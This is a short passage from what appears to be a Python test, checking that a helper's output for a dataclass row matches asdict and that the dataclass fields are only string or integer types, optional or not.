                "m1", 3, "es-US", "2")
    assert given_fields(row) == asdict(row)
    assert {str(f.type) for f in fields(Given)} <= {"str", "int", "str | None", "int | None"}
